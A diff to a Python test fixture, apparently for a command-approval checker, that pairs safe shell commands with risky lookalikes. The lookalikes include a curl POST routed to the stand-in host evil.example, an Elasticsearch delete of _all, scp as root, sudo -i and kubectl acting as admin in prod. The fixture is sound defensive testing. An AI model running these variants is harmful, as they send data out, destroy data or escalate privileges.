@@ -17,6 +17,8 @@ TWINS = {
         "curl -X POST https://api.internal:8443/x -d @body.json",
         "curl -X POST https://api.internal/x?admin=1 -d @body.json",
         "curl -X POST https://api.internal@evil.example/x -d @body.json",
+        "curl -X POST https://user:pw@api.internal/x -d @body.json",
+        "curl -X POST http://api.internal/x -d @body.json",
         "curl -X POST https://api.internal/x -d @body.json --resolve api.internal:443:1.2.3.4",
     ],
     "curl -X DELETE http://localhost:9200/tmp": [
@@ -25,10 +27,14 @@ TWINS = {
         "curl -X DELETE http://localhost:9200/tmp?x=1",
         "curl -X DELETE http://localhost:9200/_all",
     ],
+    "git push origin feature": ["git --git-dir=/x push origin feature", "git push origin feature:main"],
+    "scp f deploy@staging:": ["scp f root@staging:", "scp f deploy@staging:/etc/"],
+    "sudo systemctl restart web": ["sudo --preserve-env systemctl restart web", "sudo -i systemctl restart web"],
     "docker rm -f web": ["docker rm -fv web", "docker rm -f web db", "DOCKER_HOST=tcp://prod docker rm -f web"],
     "kubectl delete pod web-1 -n staging": [
         "kubectl delete pod web-1 web-2 -n staging",
         "kubectl delete pod web-1 -n prod",
+        "kubectl delete pod/web-1 deploy/web -n staging",
         "kubectl delete pod web-1 -n staging --as=admin",
     ],
     "kubectl exec web -n staging -- kill 5": [
